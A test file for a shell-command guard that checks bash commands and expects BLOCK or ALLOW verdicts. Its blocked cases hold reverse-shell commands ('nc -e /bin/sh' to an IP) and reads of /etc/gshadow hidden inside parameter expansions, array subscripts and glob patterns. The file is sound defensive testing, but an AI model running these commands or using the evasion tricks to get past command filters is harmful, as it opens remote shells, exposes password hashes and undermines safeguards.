import { describe, expect, it } from 'vitest'
import { createStaticGuard } from '../index.ts'

const guard = createStaticGuard()
const judge = (command: string) => guard.analyse(command)

describe('a substitution inside of an expansion', () => {
  it.each([
    'echo "${HOME:+$(nc -e /bin/sh 10.1.1.1 9)}"',
    'echo ${unset_here##$(nc -e /bin/sh 10.1.1.1 9)}',
    'echo ${unset_here/a/$(nc -e /bin/sh 10.1.1.1 9)}',
    'echo ${unset_here//$(cat /etc/gshadow)/b}',
    'word=abc; echo ${word/$(cat /etc/gshadow)/b}',
    'echo ${unset_here,,$(cat /etc/gshadow)}',
    'echo ${unset_here:0:$(cat /etc/gshadow)}',
    'x=$(date); echo ${x:-$(cat /etc/gshadow)}',
    'unset gone; echo ${gone#$(cat /etc/gshadow)}',
    'list=(); echo "${list[@]%$(cat /etc/gshadow)}"',
    'echo ${1?$(cat /etc/gshadow)}',
    "name='a[$(cat /etc/gshadow)]'; echo ${!name}",
  ])('runs whatever becomes of the value: %s', (command) =>
    expect(judge(command).verdict).toBe('BLOCK'))

  it.each([
    'echo ${unset_here##$(basename $PWD)}',
    'echo ${version:-$(git describe --tags)}',
    'word=abc; echo ${word/b/$(date +%s)}',
    'known=1; echo ${known:-$(cat /etc/gshadow)}',
  ])('is judged by what it does: %s', (command) => expect(judge(command).verdict).toBe('ALLOW'))
})

describe('names that bash evaluates', () => {
  it.each([
    "n='q[$(cat /etc/gshadow)]'; [[ n -gt 3 ]]",
    "n='q[$(cat /etc/gshadow)]'; (( n > 3 ))",
    "read 'line[$(cat /etc/gshadow)]' < notes",
    "declare -i k='z[$(cat /etc/gshadow)]'",
    "compgen -W 'one $(cat /etc/gshadow)'",
  ])('run their subscripts: %s', (command) => expect(judge(command).verdict).toBe('BLOCK'))

  it.each([
    '[[ count -gt 3 ]]',
    'read -r first rest < notes',
    'compgen -W "start stop" st',
  ])('are mostly just names: %s', (command) => expect(judge(command).verdict).toBe('ALLOW'))
})

describe('patterns with choices', () => {
  it.each([
    'shopt -s extglob; cat /etc/@(gshadow|motd)',
    'cat /etc/?(g)shadow',
    'cat /usr/lib/../../etc/gshado[^x]',
    '[[ abc-w =~ -(.)$ ]] && cat /etc/gshado${BASH_REMATCH[1]}',
  ])('mean what they can match: %s', (command) => expect(judge(command).verdict).toBe('BLOCK'))

  it.each([
    'ls photos/*.@(jpg|png)',
    'rm -r out/!(keep)',
    '[[ $1 =~ ^v([0-9]+)$ ]] && echo ${BASH_REMATCH[1]}',
  ])('are everyday work: %s', (command) => expect(judge(command).verdict).toBe('ALLOW'))
})
